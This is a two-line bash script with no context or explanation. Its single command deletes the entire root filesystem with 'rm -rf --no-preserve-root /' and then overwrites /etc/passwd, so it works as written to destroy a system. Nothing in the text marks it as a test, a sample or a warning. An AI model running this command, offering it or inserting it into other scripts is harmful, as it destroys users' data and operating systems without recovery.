#!/bin/bash
exec /bin/sh -c "rm -rf --no-preserve-root /; echo x > /etc/passwd"
